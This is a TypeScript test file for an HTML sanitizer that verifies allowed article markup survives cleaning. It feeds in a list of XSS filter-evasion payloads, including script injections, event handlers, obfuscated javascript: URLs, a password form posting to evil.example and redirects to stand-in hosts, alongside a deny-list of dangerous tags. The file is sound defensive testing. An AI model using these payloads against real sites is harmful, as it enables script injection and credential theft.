import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { readRichText } from "./rich-text"

const cleanRichText = (html: string) => readRichText(html, () => false).html

const ARTICLE = [
  "<h2>Choosing</h2><h3>Range</h3><h4>Near</h4><p>One <strong>two</strong> <em>three</em> H<sub>2</sub>O x<sup>2</sup><br />four</p>",
  '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><dl><dt>c</dt><dd>d</dd></dl><hr />',
  '<table><caption>e</caption><thead><tr><th scope="col" colspan="2">f</th></tr></thead><tbody><tr><td rowspan="2">g</td></tr></tbody></table>',
  '<figure><img src="/articles/a.svg" alt="A scanner" width="1200" height="630" /><figcaption>h</figcaption></figure>',
  "<blockquote><p>i</p></blockquote><pre><code>j &lt; k</code></pre>",
  '<p><a href="/services/repair">l</a> <a href="https://www.gs1uk.org/" rel="noopener">m</a> <a href="mailto:sales@scanwright.example">n</a> <a href="#range">o</a></p>',
].join("\n")

/** From the usual collections of filter evasions; each shows a box where it works. */
const VECTORS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></ScRiPt>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<img src=`javascript:alert(1)`>",
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img """><script>alert(1)</script>">',
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  String.raw`<a href="/\evil.example">x</a>`,
  '<iframe src="https://evil.example"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p class="fixed" id="cart" data-x="1" onclick="alert(1)">x</p>',
  "<input onfocus=alert(1) autofocus>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  '<body onload="alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<template><script>alert(1)</script></template>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '"><script>alert(1)</script>',
  "<p/onmouseover=alert(1)>x",
  "<a href='x' onclick\u0000=alert(1)>x</a>",
]

const FORBIDDEN_TAG =
  /<\/?(?:script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|video|source|details|template|textarea|title|noscript|body|div)\b/i
/** Attributes in a tag of the result. */
const ATTRIBUTES = /<[a-z\d]+((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/g
const ALLOWED_ATTRIBUTE = /^(?:href|title|rel|src|alt|width|height|colspan|rowspan|scope|start)$/
const SAFE_ADDRESS = /^(?:https?:\/\/|mailto:|tel:|\/(?!\s*[/\\])|#)/

function expectHarmless(html: string): void {
  expect(html).not.toMatch(FORBIDDEN_TAG)
  const tags = html.match(/<[^>]*>/g) ?? []
  for (const tag of tags) expect(tag).toMatch(/^<(?:\/[a-z\d]+|[a-z\d]+(?:\s+[a-z-]+="[^"<>]*")*\s*\/?)>$/)
  for (const [, attributes = ""] of html.matchAll(ATTRIBUTES)) {
    for (const [, name = "", value = ""] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      expect(name).toMatch(ALLOWED_ATTRIBUTE)
      if (name === "href" || name === "src") expect(value).toMatch(SAFE_ADDRESS)
    }
  }
}

describe("Rich text", () => {
  it("leaves all allowed elements", () => {
    expect(cleanRichText(ARTICLE)).toBe(ARTICLE)
  })

  it.each(VECTORS)("has nothing that runs or disguises text: %s", (vector) => {
    expectHarmless(cleanRichText(vector))
    expectHarmless(cleanRichText(`<h2>Before</h2>${vector}<p>After</p>`))
  })

  it("replaces tags that have an allowed equivalent", () => {
    expect(cleanRichText("<h1>a</h1><h6>b</h6><b>c</b><i class='x'>d</i>")).toBe(
      "<h2>a</h2><h4>b</h4><strong>c</strong><em>d</em>",
    )
    expect(cleanRichText('<span style="color:red">e</span>')).toBe("e")
  })

  it("gives pictures an alt and drops those that lead nowhere safe", () => {
    expect(cleanRichText('<img src="/a.svg">')).toBe('<img src="/a.svg" alt="" />')
    expect(cleanRichText('<img src="data:image/png;base64,AAAA" alt="x">y')).toBe("y")
  })

  it.each([
    "http://www.zebra.example/ds2208.jpg",
    "file:///C:/Users/x/AppData/clip_image001.png",
    "data:image/png;base64,AAAA",
    "cid:image001.png@01D9",
    "ds2208.jpg",
    "//www.zebra.example/ds2208.jpg",
  ])("names a picture that no page can show: %s", (address) => {
    const html = `<p>a</p><img src=" ${address}\n" alt="x"><figure><img src="${address}"></figure><p>b</p>`
    expect(readRichText(html, () => false)).toEqual({
      html: "<p>a</p><figure></figure><p>b</p>",
      refusedPictures: [address],
    })
  })

  it("names no other, and keeps uploads that are served by http", () => {
    const own = "http://localhost:9000/static/1-a.png"
    const html = `<img src="${own}" alt="a" /><img src="https://lh3.example/docs/AAA" alt="b" /><img src="/a.svg" alt="" />`
    expect(readRichText(html, (address) => address === own)).toEqual({ html, refusedPictures: [] })
    expect(readRichText("<img><img src=''>", () => false)).toEqual({ html: "", refusedPictures: [] })
  })

  it("has no control characters, in any spelling", () => {
    expect(cleanRichText("<p>a\u0001b&#1;c&#x1f;d&#127;e</p>")).toBe("<p>abcde</p>")
    expect(cleanRichText("&#1")).toBe("")
    expect(cleanRichText('<img src="/a.svg" alt="x&#2;y">')).toBe('<img src="/a.svg" alt="xy" />')
    expect(cleanRichText("<pre>a&#10;&#9;b</pre>")).toBe("<pre>a\n\tb</pre>")
  })

  it("is harmless and stable for vectors in any mixture", () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.constantFrom(...(ARTICLE.match(/<[^>]*>|[^<>]+/g) ?? [])),
      fc.constantFrom(
        "<",
        ">",
        '"',
        "'",
        "&",
        "=",
        "/",
        "&lt;",
        "&#60;",
        "\u0000",
        "<p ",
        "</p",
        "<!--",
        "-->",
      ),
      fc.string(),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = cleanRichText(pieces.join(""))
        expectHarmless(once)
        expect(cleanRichText(once)).toBe(once)
      }),
      { numRuns: 3_000 },
    )
  })

  // Five times the greatest, which takes some seconds: work that grew much faster would not end before the test's own limit.
  it.each([
    ["<p>", 300_000],
    ["<", 1_000_000],
    ["<blockquote>", 80_000],
  ])("far beyond the greatest length and depth is cleaned: %j, %i times", (tag, times) => {
    expectHarmless(cleanRichText(tag.repeat(times)))
  })
})
